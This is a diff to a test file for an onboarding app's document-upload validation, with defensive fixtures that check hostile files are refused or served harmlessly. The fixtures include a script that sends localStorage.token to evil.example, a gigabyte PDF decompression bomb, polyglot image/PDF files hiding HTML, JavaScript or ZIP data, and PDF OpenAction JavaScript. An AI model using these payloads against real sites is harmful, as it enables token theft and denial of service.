@@ -1,3 +1,4 @@
+import { deflateSync } from 'node:zlib';
 import { describe, expect, it } from 'vitest';
 import {
   getCandidateBankDetails,
@@ -10,14 +11,31 @@ import {
 } from '#contract/joining.ts';
 import { acceptedCandidate, bankForm, personalForm, sendForm, storedFiles, testFile } from '#test/joining-requests.ts';
 import { openTestApp } from '#test/test-app.ts';
-import { jpegFrame, jpegSegment, madeJpeg, madePng, pngChunk } from '#test/made-files.ts';
+import {
+  jpegAround,
+  jpegFrame,
+  jpegScan,
+  jpegSegment,
+  madeJpeg,
+  madePng,
+  pdfAround,
+  pngChunk,
+} from '#test/made-files.ts';
 
 const t = await openTestApp();
 const { token } = await acceptedCandidate(t);
 
 const script = '<script>fetch("//evil.example/"+localStorage.token)</script>';
-const pdf = (text = '') => Buffer.from(`%PDF-1.7\n${text}\n%%EOF`);
+const pdf = (text = '', trailer = '') => pdfAround(Buffer.from(text), { trailer });
 const text = (content: string) => Buffer.from(content);
+
+/** A PDF whose table of objects unpacks to a gigabyte. */
+function bombPdf(): Buffer {
+  const table = deflateSync(Buffer.alloc(2 ** 30), { level: 1 });
+  const entries = '/Size 150000000/W[1 4 2]/Root 2 0 R/Filter/FlateDecode';
+  const object = `1 0 obj<</Type/XRef${entries}/Length ${table.length}>>stream\n`;
+  return Buffer.concat([text(`%PDF-1.7\n${object}`), table, text('\nendstream endobj\nstartxref\n9\n%%EOF')]);
+}
 
 /** Sends a file as the passbook under a name and a declared type, and answers what is said to it. */
 async function sendPassbook(bytes: Buffer, name = 'scan.png', type = 'image/png') {
@@ -40,8 +58,12 @@ async function servedPassbook() {
 describe('what is not a PNG, JPG or PDF by its first bytes', () => {
   it.each<[string, Buffer, string?, string?]>([
     ['a page', text(`<html>${script}</html>`)],
-    ['a page that says it is a PDF further down', text(`<html>${script}\n%PDF-1.7`), 'a.pdf', 'application/pdf'],
-    ['a PDF after one stray byte', Buffer.concat([text('\n'), pdf()]), 'a.pdf', 'application/pdf'],
+    [
+      'a page that says it is a PDF far down',
+      text(`<html>${script}${' '.repeat(1024)}\n%PDF-1.7`),
+      'a.pdf',
+      'application/pdf',
+    ],
     ['a vector picture with a script', text(`<svg xmlns="http://www.w3.org/2000/svg">${script}</svg>`)],
     ['a GIF', text(`GIF89a=1;${script}`)],
     ['a program for Windows', Buffer.concat([text('MZ'), Buffer.alloc(200)]), 'pan.pdf.exe', 'application/pdf'],
@@ -66,17 +88,33 @@ describe('what is not a PNG, JPG or PDF by its first bytes', () => {
   });
 });
 
+describe('what cannot be opened', () => {
+  it.each<[string, Buffer, string]>([
+    ['a page that says it is a PDF', text(`<html>${script}\n%PDF-1.7\n%%EOF`), 'This PDF cannot be opened.'],
+    ['a PDF that unpacks to a gigabyte', bombPdf(), 'This PDF cannot be opened.'],
+    [
+      'a PNG that is rubbish from the ninth byte on',
+      Buffer.concat([madePng(1, 1).subarray(0, 8), text(script)]),
+      'This picture cannot be opened.',
+    ],
+  ])(
+    '%s is refused on its field, and other files are judged as before',
+    async (_what, bytes, message) => {
+      const before = await storedFiles(t);
+      const { envelope } = await sendPassbook(bytes);
+      expect(envelope.errors).toEqual([{ path: 'passbookFile', message: expect.stringContaining(message) as string }]);
+      expect(await storedFiles(t)).toEqual(before);
+      expect((await sendPassbook(pdf(), 'a.pdf', 'application/pdf')).envelope.code).toBe(200);
+    },
+    120_000,
+  );
+});
+
 describe('what is something else besides', () => {
   const types = { PNG: 'image/png', JPG: 'image/jpeg', PDF: 'application/pdf' };
   it.each<[string, keyof typeof types, Buffer, string, string]>([
     ['a PDF with a page in it', 'PDF', pdf(`<html>${script}</html>`), 'a.html', 'text/html'],
-    [
-      'a PDF with a script',
-      'PDF',
-      pdf('1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>'),
-      'a.js',
-      'text/javascript',
-    ],
+    ['a PDF with a script', 'PDF', pdf('', '/OpenAction<</S/JavaScript/JS(app.alert(1))>>'), 'a.js', 'text/javascript'],
     [
       'a PDF that is an archive too',
       'PDF',
@@ -87,24 +125,18 @@ describe('what is something else besides', () => {
     [
       'a JPG with a page in its comment',
       'JPG',
-      madeJpeg(jpegSegment(0xfe, text(`*/${script}`)), jpegFrame(8, 8)),
+      madeJpeg(jpegSegment(0xfe, text(`*/${script}`)), jpegFrame(8, 8), jpegScan),
       'a.html',
       'text/html',
     ],
     [
       'a JPG that is a script',
       'JPG',
-      madeJpeg(jpegSegment(0xe0, text('=1;alert(1)//'))),
+      madeJpeg(jpegSegment(0xe0, text('=1;alert(1)//')), jpegFrame(8, 8), jpegScan),
       'a.js',
       'application/javascript',
     ],
-    [
-      'a JPG with an archive behind it',
-      'JPG',
-      Buffer.concat([madeJpeg(jpegFrame(8, 8)), text('PK\x03\x04')]),
-      'a.zip',
-      'application/zip',
-    ],
+    ['a JPG with an archive behind it', 'JPG', jpegAround(text('PK\x03\x04')), 'a.zip', 'application/zip'],
     [
       'a PNG with a page in its text',
       'PNG',
@@ -113,11 +145,11 @@ describe('what is something else besides', () => {
       'image/svg+xml',
     ],
     [
-      'a PNG that is rubbish from the ninth byte on',
-      'PNG',
-      Buffer.concat([madePng(1, 1).subarray(0, 8), text(script)]),
-      'a.png',
-      'image/png',
+      'a page with a whole PDF in it',
+      'PDF',
+      Buffer.concat([text(`<html>${script}</html>`), pdf()]),
+      'a.html',
+      'text/html',
     ],
   ])(
     '%s is served as its own type alone, under our name, and can do nothing',
@@ -194,7 +226,7 @@ describe('a picture that claims more pixels than can be looked at', () => {
 
   it('is none with what a phone takes, and none with what is no picture at all', async () => {
     const form = personalForm({
-      panDocument: { bytes: madeJpeg(jpegFrame(12_000, 9000)), name: 'pan.jpg' },
+      panDocument: { bytes: madeJpeg(jpegFrame(12_000, 9000), jpegScan), name: 'pan.jpg' },
       aadhaarDocument: testFile('jpg', 2_000_000),
       profile: { bytes: madePng(8000, 6000, { lines: 6000 }), name: 'me.png' },
     });
